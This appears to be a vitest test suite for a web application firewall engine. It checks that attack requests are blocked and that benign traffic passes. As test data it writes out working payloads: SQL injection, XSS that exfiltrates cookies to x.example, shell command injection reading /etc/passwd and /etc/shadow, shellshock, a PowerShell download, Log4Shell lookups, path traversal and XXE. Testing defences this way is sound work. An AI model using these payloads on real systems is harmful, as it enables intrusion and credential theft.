import { describe, expect, test } from 'vitest';
import { compileEngine, viewOf } from './engine.ts';
import { RULES } from './rules/index.ts';
import type { RequestParts } from './types.ts';

const p1 = compileEngine({ paranoia: 1 });
const THRESHOLD = 5;

function get(url: string, headers: Record<string, string> = {}): RequestParts {
  return { method: 'GET', url, headers: { host: 'api.example', 'user-agent': 'test', ...headers } };
}
function post(body: string, contentType?: string, url = '/api/items'): RequestParts {
  const headers: Record<string, string> = { host: 'api.example', 'user-agent': 'test' };
  if (contentType) headers['content-type'] = contentType;
  return { method: 'POST', url, headers, body: Buffer.from(body) };
}
const q = (v: string): string => `/search?q=${encodeURIComponent(v)}`;
const json = (v: unknown): RequestParts => post(JSON.stringify(v), 'application/json');

function families(parts: RequestParts): string[] {
  return [...new Set(p1.inspect(parts).matches.map((m) => m.family))];
}
const blocked = (parts: RequestParts): boolean => p1.inspect(parts).score >= THRESHOLD;

// Literal attack payloads contain `${…}` on purpose.
const IFS = '$' + '{IFS}';
const JNDI = '$' + '{jndi:ldap://x.example/a}';
const SPLIT_JNDI = '$' + '{$' + '{lower:j}ndi:rmi://x.example/a}';

describe('attacks are blocked at paranoia 1, whatever the family and the carrier', () => {
  const attacks: Array<[string, RequestParts, string]> = [
    ['sqli: tautology after a quote breakout', get(q("alice' OR '1'='1")), 'sqli'],
    ['sqli: UNION SELECT with comment', get(q('1) union /**/ all select password from users--')), 'sqli'],
    ['sqli: stacked query', json({ id: '5; DROP TABLE users' }), 'sqli'],
    ['sqli: time-based blind in a cookie', get('/', { cookie: 'sid=1 AND sleep(5)' }), 'sqli'],
    ['sqli: numeric tautology', get(q('-1 or 2=2')), 'sqli'],
    // Any Unicode blank is a blank: one em space, ideographic space or BOM between the words hid them.
    ['sqli: UNION SELECT split by an em space', get(q('1 union\u2003select password from users')), 'sqli'],
    [
      'sqli: UNION SELECT split by an ideographic space',
      json({ id: '1 union\u3000select password from users' }),
      'sqli',
    ],
    ['sqli: tautology split by a BOM', get(q("x'\ufeffor\ufeff'1'='1")), 'sqli'],
    ['rce: command split by a thin space', get(q(';cat\u2009/etc/passwd')), 'rce'],
    // The shell named by a variable: `$0` (the running shell), `$SHELL`, `$BASH`, braced or not.
    ['rce: $0 -c', get(q('x;$0 -c id')), 'rce'],
    ['rce: braced $0 -c', get(q('x;$' + '{0} -c whoami')), 'rce'],
    ['rce: $SHELL -c in a header', get('/', { 'x-note': 'x;$SHELL -c id' }), 'rce'],
    ['rce: piped into $SHELL', json({ cmd: 'x|$SHELL' }), 'rce'],
    ['sqli: MySQL executable comment', get(q('1 /*!50000union*/ /*!50000select*/ 1')), 'sqli'],
    ['sqli: NoSQL operator as a JSON key', json({ user: 'admin', password: { $ne: null } }), 'sqli'],
    ['xss: script tag', get(q('<script>fetch("//x.example/"+document.cookie)</script>')), 'xss'],
    ['xss: event handler on svg', get(q('<svg/onload=alert(1)>')), 'xss'],
    ['xss: attribute breakout', get(q('" autofocus onfocus="x()')), 'xss'],
    ['xss: javascript: split by an entity', json({ link: 'jav&#x09;ascript:alert(1)' }), 'xss'],
    ['xss: full-width angle brackets', get(q('＜script＞x＜/script＞')), 'xss'],
    [
      'xss: in the Referer header',
      get('/', { referer: 'https://a.example/?"><img src=x onerror=alert(1)>' }),
      'xss',
    ],
    ['rce: command after a separator', get(q('8.8.8.8; cat /etc/passwd')), 'rce'],
    ['rce: command substitution', json({ host: 'x$(id)' }), 'rce'],
    ['rce: quote-split command name', get(q("127.0.0.1|w'h'o'a'm'i")), 'rce'],
    ['rce: $IFS instead of spaces', get(q(`;cat${IFS}/etc/shadow`)), 'rce'],
    ['rce: shellshock in a header', get('/', { 'x-debug': '() { :; }; /bin/bash -c id' }), 'rce'],
    ['rce: Windows FOR loop', get(q("for /f %i in ('whoami') do echo %i")), 'rce'],
    ['rce: PowerShell download', json({ cmd: 'powershell Invoke-WebRequest http://x.example/a.ps1' }), 'rce'],
    ['lfi: traversal', get('/files?name=../../../../etc/passwd'), 'lfi'],
    ['lfi: traversal with backslashes', get(q('..\\..\\windows\\win.ini')), 'lfi'],
    ['lfi: overlong UTF-8 slash', get('/files?name=..%c0%af..%c0%afetc%c0%afpasswd'), 'lfi'],
    ['lfi: secrets file', get(q('/home/app/.ssh/id_rsa')), 'lfi'],
    ['rfi: stream wrapper', get('/page?tpl=php://filter/convert.base64-encode/resource=index'), 'rfi'],
    ['php: superglobal and eval', json({ code: '<?php eval($_POST["x"]); ?>' }), 'php'],
    ['java: log4shell lookup in User-Agent', get('/', { 'user-agent': JNDI }), 'java'],
    ['java: split log4shell lookup', get(q(SPLIT_JNDI)), 'java'],
    ['protocol: header injection', get('/r?next=%0d%0aSet-Cookie:%20sid=evil'), 'protocol'],
  ];
  test.each(attacks)('%s', (_name, parts, family) => {
    expect(blocked(parts)).toBe(true);
    expect(families(parts)).toContain(family);
  });
});

describe('bodies are inspected whatever their Content-Type says', () => {
  test('a form body without Content-Type', () => {
    expect(blocked(post("name=x' union select password from users--"))).toBe(true);
  });
  test('a raw text body without Content-Type', () => {
    expect(blocked(post('<script>alert(1)</script>'))).toBe(true);
  });
  test('JSON labelled text/plain, the payload nested three levels deep', () => {
    const body = JSON.stringify({ a: { b: [{ c: "1' OR '1'='1" }] } });
    const r = p1.inspect(post(body, 'text/plain'));
    expect(r.score).toBeGreaterThanOrEqual(THRESHOLD);
    expect(r.matches.map((m) => m.target)).toContain('body:a.b.0.c');
  });
  test('a JSON name repeated: the value JSON.parse would drop is inspected too', () => {
    // A parser that keeps the first occurrence (or streams the text) behind the gateway reads it.
    const r = p1.inspect(post('{"q":"<script>alert(1)</script>","q":"fine"}', 'application/json'));
    expect(r.score).toBeGreaterThanOrEqual(THRESHOLD);
    expect(
      blocked(post('{"a":{"q":"1 union select password from users--"},"a":1}', 'application/json')),
    ).toBe(true);
  });
  test('a multipart field and a traversing file name', () => {
    const body =
      '--XyZ\r\nContent-Disposition: form-data; name="comment"\r\n\r\n<iframe src=javascript:alert(1)>\r\n' +
      '--XyZ\r\nContent-Disposition: form-data; name="f"; filename="../../app/config.php"\r\n\r\nbinary\r\n--XyZ--\r\n';
    const r = p1.inspect(post(body, 'multipart/form-data; boundary=XyZ'));
    expect(r.matches.map((m) => m.family)).toEqual(expect.arrayContaining(['xss', 'lfi']));
  });
  test('XML element text and attributes, entity-encoded', () => {
    const body =
      '<?xml version="1.0"?><order note="&lt;script&gt;x()&lt;/script&gt;"><id>1 UNION SELECT 1,2</id></order>';
    const r = p1.inspect(post(body, 'application/xml'));
    expect(r.matches.map((m) => m.family)).toEqual(expect.arrayContaining(['xss', 'sqli']));
  });
  test('XML external entity declaration', () => {
    const body = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>';
    expect(blocked(post(body, 'application/xml'))).toBe(true);
  });
  test('double and triple percent-encoding', () => {
    expect(blocked(get('/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E'))).toBe(true);
    expect(blocked(get('/f?p=%25252e%25252e%25252fetc%25252fpasswd'))).toBe(true);
  });
  test('a form-encoded body declared as JSON is still read as a form', () => {
    expect(blocked(post('q=%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'application/json'))).toBe(true);
  });
});

describe('benign API traffic passes at paranoia 1', () => {
  const benign: Array<[string, RequestParts]> = [
    [
      'prose with apostrophes',
      json({
        review: "I can't believe it's not butter! O'Reilly's book and Jones' notes are great, or so I'd say.",
      }),
    ],
    [
      'prose with semicolons and ampersands',
      json({ text: 'Fish & chips; time will tell. Select one from the menu, then more.' }),
    ],
    [
      'a JavaScript snippet in a JSON field',
      json({ snippet: 'function add(a, b) {\n  return a + b;\n}\nconst total = items.reduce(add, 0);' }),
    ],
    [
      'a Python snippet',
      json({ code: 'def greet(name):\n    return f"Hello, {name}!"\n\nprint(greet("world"))' }),
    ],
    ['a SQL-looking sentence', get(q('how to select the best laptop from the 2024 range'))],
    ['email addresses', json({ to: ['first.last+tag@example.com', "o'neil@example.org"] })],
    [
      'URLs',
      json({
        callback: 'https://hooks.example.com/a/b?x=1&y=2#frag',
        avatar: 'https://cdn.example.com/u/42.png',
      }),
    ],
    ['a search with brackets and math', get(q('price (incl. tax) = 12.50 + [shipping]'))],
    ['ordinary query parameters', get('/pets?limit=20&offset=40&sort=-created_at&type=cat&status=available')],
    [
      'a nested order',
      json({
        order: {
          id: 'ord_123',
          items: [{ sku: 'A-1', qty: 2, note: 'Gift wrap, please; thanks!' }],
          total: 19.99,
        },
      }),
    ],
    [
      'markdown with code',
      json({ body: 'Run `npm install` first, then **build**. See [docs](https://docs.example.com).' }),
    ],
    ['a base64 value', json({ data: 'SGVsbG8sIFdvcmxkIQ==', encoding: 'base64' })],
    [
      'a browser User-Agent',
      get('/', {
        'user-agent':
          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
      }),
    ],
    ['a cookie header', get('/', { cookie: 'session=abc123; theme=dark; consent=yes' })],
    ['a path with dots', get('/files/report.v2.final.pdf')],
    ['a phone number and a date range', get('/calls?from=2024-01-01&to=2024-01-31&number=%2B1-555-0100')],
  ];
  test.each(benign)('%s', (_name, parts) => {
    const r = p1.inspect(parts);
    expect(r.matches).toEqual([]);
  });
});

describe('anomaly scoring and paranoia', () => {
  test('a weak signal alone does not block, it only adds to the score', () => {
    const r = p1.inspect(get(q('see %SYSTEMROOT% for the file')));
    expect(r.matches.map((m) => m.id)).toEqual(['rce-windows-env']);
    expect(r.score).toBeLessThan(THRESHOLD);
  });
  test('higher paranoia runs stricter rules', () => {
    const parts = get(q('<b>bold</b>'));
    expect(p1.inspect(parts).score).toBe(0);
    expect(compileEngine({ paranoia: 2 }).inspect(parts).score).toBeGreaterThan(0);
  });
  test('matches name the target, never the value', () => {
    const r = p1.inspect(get(q("x' or 1=1--")));
    expect(r.matches[0]).toMatchObject({ family: 'sqli', target: 'query:q' });
    expect(JSON.stringify(r)).not.toContain('1=1');
  });
});

describe('exclusions', () => {
  const attack = json({ post: { content: "<script>alert('x')</script>" }, title: 'hi' });
  test('a body field excluded from a family is not inspected by it, its parent path covers it', () => {
    const e = compileEngine({ exclusions: [{ target: 'body:post', families: ['xss'] }] });
    expect(e.inspect(attack).matches.filter((m) => m.family === 'xss')).toEqual([]);
  });
  test('excluding one rule leaves the other rules on that target', () => {
    const e = compileEngine({ exclusions: [{ target: 'body:post.content', rules: ['xss-tag'] }] });
    const ids = e.inspect(attack).matches.map((m) => m.id);
    expect(ids).not.toContain('xss-tag');
    expect(ids).toContain('xss-js-sink');
  });
  test('a header excluded from everything (name case-insensitive)', () => {
    const e = compileEngine({ exclusions: [{ target: 'header:X-Template' }] });
    expect(e.inspect(get('/', { 'x-template': '<script>x()</script>' })).score).toBe(0);
    expect(e.inspect(get('/', { 'x-other': '<script>x()</script>' })).score).toBeGreaterThanOrEqual(
      THRESHOLD,
    );
  });
  test('a query parameter exclusion does not cover other parameters', () => {
    const e = compileEngine({ exclusions: [{ target: 'query:sql', families: ['sqli'] }] });
    expect(e.inspect(get('/r?sql=select+*+from+t+where+a%3D1')).score).toBe(0);
    expect(e.inspect(get('/r?other=select+*+from+t+where+a%3D1')).score).toBeGreaterThan(0);
  });
});

describe('no catastrophic backtracking: the worst case of each rule stays bounded', () => {
  // Shapes that make naive patterns backtrack: long runs of the characters the rules anchor on.
  const payloads = [
    'a'.repeat(20000),
    '<a '.repeat(7000),
    '<svg '.repeat(4000),
    `<svg ${'x'.repeat(20000)}`,
    '/*'.repeat(10000),
    "'".repeat(20000),
    "' or ".repeat(4000),
    '${'.repeat(10000),
    '$('.repeat(10000),
    '../'.repeat(7000),
    '..\\'.repeat(7000),
    'for '.repeat(5000),
    `for ${'"x" '.repeat(5000)}`,
    'if '.repeat(5000),
    `if ${'a=='.repeat(5000)}`,
    '%'.repeat(20000),
    '%2'.repeat(10000),
    '&#'.repeat(10000),
    '`'.repeat(20000),
    '<!--#'.repeat(4000),
    ' on'.repeat(7000),
    ' onx'.repeat(5000),
    'select '.repeat(3000),
    'union '.repeat(3000),
    ';'.repeat(20000),
    '; '.repeat(10000),
    '\\'.repeat(20000),
    `${'a='.repeat(10000)}b`,
    `alias ${'+a '.repeat(6000)}`,
    '/etc/'.repeat(4000),
    '/['.repeat(10000),
    '{a,'.repeat(7000),
    '\\x3'.repeat(7000),
    'jndi:'.repeat(4000),
    '(!['.repeat(7000),
    `${'1.'.repeat(10000)}e`,
  ];
  const kinds = ['query', 'body', 'header', 'path', 'body-raw', 'filename'] as const;
  // Normalised once (the transforms are measured by the engine tests); each rule is timed alone.
  const views = payloads.flatMap((value) =>
    kinds.map((kind) => {
      const view = viewOf({ kind, key: `${kind}:x`, value });
      void view.sql;
      void view.shell;
      void view.path;
      return view;
    }),
  );
  test.each(RULES.map((r) => [r.id, r] as const))('%s', (_id, rule) => {
    let worst = 0;
    for (const view of views) {
      const t0 = performance.now();
      rule.test(view);
      worst = Math.max(worst, performance.now() - t0);
    }
    // ~20 KB of hostile input: a linear rule needs a few ms at most, a quadratic blow-up seconds to
    // minutes. The bound sits between the two with room for a loaded machine: it catches the
    // blow-up, it does not measure speed (the bench does).
    expect(worst).toBeLessThan(1_000);
  });
});

describe('plain values (letters, digits, blanks) are screened by their words, not skipped', () => {
  const attacks = [
    'whoami',
    'nohup ifconfig',
    '1 union select 1',
    'tempdb',
    '4294967296',
    'window.location',
    'Invoke-Expression -Command x',
    '.env',
    'backup.sql.zip',
    'if not defined x cmd',
  ];
  test.each(attacks)('%s is blocked', (value) => {
    expect(blocked(get(q(value)))).toBe(true);
  });
  const benign = [
    'hello world',
    'A-100',
    'a.b@example.com',
    'dark',
    '3f2a9c',
    'report.v2.final.pdf',
    'ping 127.0.0.1',
  ];
  test.each(benign)('%s passes', (value) => {
    expect(p1.inspect(get(q(value))).matches).toEqual([]);
  });
});

describe('repeated values are judged once, with the same outcome', () => {
  const UA =
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36';
  test('an attack in a header blocks on every request, not only the first', () => {
    const attack = get('/', { 'user-agent': '() { :; }; /bin/bash -c id' });
    const first = p1.inspect(attack);
    expect(first.score).toBeGreaterThanOrEqual(THRESHOLD);
    for (let i = 0; i < 3; i++) expect(p1.inspect(attack)).toEqual(first);
  });
  test('a header excluded on one route still blocks on another with the same value', () => {
    const value = '<script>x()</script>';
    const excluded = compileEngine({ exclusions: [{ target: 'header:x-template', families: ['xss'] }] });
    expect(excluded.inspect(get('/', { 'x-template': value })).score).toBe(0);
    expect(p1.inspect(get('/', { 'x-template': value })).score).toBeGreaterThanOrEqual(THRESHOLD);
    expect(excluded.inspect(get('/', { 'x-template': value })).score).toBe(0);
  });
  test('a cookie name and a cookie value with the same text are judged as what they are', () => {
    // rfi-remote-url looks at cookie values, not names: `N=N` shares the key `cookie:N`.
    const url = 'http://10.0.0.1/x.txt?';
    for (let i = 0; i < 2; i++) {
      expect(p1.inspect(get('/', { cookie: `${url}=1` })).matches).toEqual([]);
      expect(p1.inspect(get('/', { cookie: `${url}=${url}` })).matches.map((m) => m.id)).toEqual([
        'rfi-remote-url',
      ]);
    }
  });
  test('a cookie segment without `=` is judged as a value (RFC 6265bis: a nameless cookie)', () => {
    const url = 'http://10.0.0.1/x.txt?';
    expect(p1.inspect(get('/', { cookie: `a=1; ${url}` })).matches.map((m) => m.id)).toEqual([
      'rfi-remote-url',
    ]);
  });
  test('a repeated cookie name hides no value: the second one is judged too', () => {
    const res = p1.inspect(get('/', { cookie: "id=1; id=1' OR '1'='1" }));
    expect(res.score).toBeGreaterThanOrEqual(THRESHOLD);
  });
  test.each<[string, string]>([
    ['a header the rules inspect', 'user-agent'],
    ['a header they skip', 'connection'],
    ['a header with a grammar', 'accept'],
  ])('a control character in %s blocks on every request, not only the first', (_, name) => {
    const attack = get('/', { [name]: 'text\u0001more' });
    for (let i = 0; i < 3; i++) {
      const res = p1.inspect(attack);
      expect(res.matches.map((m) => m.id)).toContain('protocol-control-characters');
      expect(p1.inspect(get('/', { [name]: 'text more' })).matches).toEqual([]);
    }
  });
  test('a name where the last request had another is judged for itself, not by its place', () => {
    const benign = json({ sku: 'KB-2041', note: 'fine' });
    const attack = json({ sku: 'KB-2041', "x' or 1=1 --": 'fine' });
    for (let i = 0; i < 3; i++) {
      expect(p1.inspect(benign).matches).toEqual([]);
      expect(p1.inspect(attack).score).toBeGreaterThanOrEqual(THRESHOLD);
      expect(p1.inspect(get(q('fine'))).matches).toEqual([]);
    }
  });
  test('after thousands of distinct values have gone through, verdicts are unchanged', () => {
    const attack = get('/', { 'user-agent': UA, 'x-note': 'ok; cat /etc/passwd' });
    const benign = get('/', { 'user-agent': UA, 'x-note': 'see you at 5' });
    const before = [p1.inspect(attack), p1.inspect(benign)];
    for (let i = 0; i < 20_000; i++) p1.inspect(get('/', { 'user-agent': `${UA} build/${i}` }));
    expect([p1.inspect(attack), p1.inspect(benign)]).toEqual(before);
    expect(before[0]?.score).toBeGreaterThanOrEqual(THRESHOLD);
    expect(before[1]?.matches).toEqual([]);
  });
});

describe('inspection limits are never a silent pass', () => {
  const small = { maxValues: 10, maxValueBytes: 100 };
  const blockAt = compileEngine({ ...small, onLimit: 'block' });
  const prefixAt = compileEngine({ ...small, onLimit: 'inspect-prefix' });
  const many = (n: number, last: string): string =>
    `/search?${Array.from({ length: n }, (_, i) => `p${i}=v`).join('&')}&q=${encodeURIComponent(last)}`;

  test.each<[string, RequestParts, 'values' | 'valueBytes']>([
    ['more query values than maxValues', get(many(20, 'x')), 'values'],
    [
      'query, headers and body counted together',
      {
        ...post('a=1&b=2&c=3', 'application/x-www-form-urlencoded', many(3, 'x')),
        headers: { host: 'h', a: 'x', b: 'y', c: 'z', 'content-type': 'application/x-www-form-urlencoded' },
      },
      'values',
    ],
    ['a value longer than maxValueBytes', get(q('x'.repeat(101))), 'valueBytes'],
    ['a header longer than maxValueBytes', get('/', { 'x-note': 'y'.repeat(101) }), 'valueBytes'],
    ['multi-byte characters counted as UTF-8 bytes', get('/', { 'x-note': 'é'.repeat(60) }), 'valueBytes'],
  ])('block: %s reports the limit without judging', (_what, parts, limit) => {
    const res = blockAt.inspect(parts);
    expect(res.limit).toBe(limit);
  });

  test('under the limits nothing is reported', () => {
    expect(blockAt.inspect(get(q('x'.repeat(100)))).limit).toBeUndefined();
    // The path, 3 names, 3 values and 2 headers: 9 values.
    expect(blockAt.inspect(get(many(2, 'x'))).limit).toBeUndefined();
  });

  test('inspect-prefix judges the values that fit and reports the limit', () => {
    const early = prefixAt.inspect(get(q(`${"' OR '1'='1 --"} ${'x'.repeat(200)}`)));
    expect(early.limit).toBe('valueBytes');
    expect(early.score).toBeGreaterThanOrEqual(THRESHOLD);
    // The attack past the first 100 bytes of the value is not seen, but the limit is reported.
    const late = prefixAt.inspect(get(q(`${'x'.repeat(200)} ' OR '1'='1 --`)));
    expect(late.limit).toBe('valueBytes');
    expect(late.score).toBe(0);
    const pastCount = prefixAt.inspect(get(many(20, "' OR '1'='1 --")));
    expect(pastCount.limit).toBe('values');
  });

  test('the default limits leave a large JSON body alone and catch an attack in its last field', () => {
    const items = Array.from({ length: 300 }, (_, i) => ({ id: i, name: `item ${i}`, tag: 'plain' }));
    expect(p1.inspect(json(items)).limit).toBeUndefined();
    const res = p1.inspect(json([...items, { name: "x' OR '1'='1" }]));
    expect(res.limit).toBeUndefined();
    expect(res.score).toBeGreaterThanOrEqual(THRESHOLD);
  });

  test('JSON nested deeper than paths grow is still inspected, value by value', () => {
    let deep: unknown = { q: "1' UNION SELECT password FROM users--" };
    for (let i = 0; i < 80; i++) deep = { a: deep };
    expect(blocked(json(deep))).toBe(true);
  });
});

describe('every header a client controls is inspected', () => {
  const sqli = "1' OR '1'='1";
  test.each([
    'x-real-ip',
    'x-forwarded-for',
    'x-forwarded-host',
    'forwarded',
    'x-custom',
    'accept',
    'accept-language',
    'host',
  ])('%s carrying SQLi is blocked', (name) => {
    expect(blocked(get('/', { [name]: sqli }))).toBe(true);
  });
  test.each<[string, string]>([
    ['accept', 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'],
    ['accept-language', 'en-GB,en;q=0.9,fr;q=0.8'],
    ['accept-encoding', 'gzip, deflate, br, zstd'],
    ['x-forwarded-for', '203.0.113.7, 10.0.0.1'],
    ['x-real-ip', '2001:db8::1'],
    ['forwarded', 'for="[2001:db8::1]:443";proto=https;host=api.example'],
    ['if-none-match', 'W/"5e15153d-120f"'],
    ['authorization', 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-def_ghi'],
    ['content-type', 'multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW'],
    ['cache-control', 'no-cache, max-age=0'],
    ['range', 'bytes=0-1023'],
  ])('a well-formed %s passes', (name, value) => {
    expect(p1.inspect(get('/', { [name]: value })).matches).toEqual([]);
  });
});

describe('multipart bodies are read by busboy', () => {
  const B = 'b0undary';
  const ct = `multipart/form-data; boundary=${B}`;
  const part = (head: string, content: string) => `--${B}\r\n${head}\r\n\r\n${content}\r\n`;
  test('an attack in a field, in a filename, or in a file part is blocked', () => {
    const field = part('Content-Disposition: form-data; name="q"', "1' UNION SELECT password FROM users--");
    const file = part(
      'Content-Disposition: form-data; name="f"; filename="a.txt"',
      '<script>alert(1)</script>',
    );
    const name = part('Content-Disposition: form-data; name="f"; filename="x<svg onload=alert(1)>.txt"', 'x');
    for (const body of [field, file, name]) expect(blocked(post(`${body}--${B}--\r\n`, ct))).toBe(true);
  });
  test('a malformed body is reported and still inspected as text', () => {
    const res = p1.inspect(
      post(`--${B}\nContent-Disposition: form-data; name="q"\n\n<script>alert(1)</script>\n`, ct),
    );
    expect(res.bodyError).toBe('malformed');
    expect(res.matches.map((m) => m.family)).toContain('xss');
  });
  test('a benign upload passes', () => {
    const body = `${part('Content-Disposition: form-data; name="title"', 'Holiday photos')}${part('Content-Disposition: form-data; name="f"; filename="notes.txt"\r\nContent-Type: text/plain', 'Dinner at 8, bring wine.')}--${B}--\r\n`;
    expect(p1.inspect(post(body, ct)).matches).toEqual([]);
  });
});
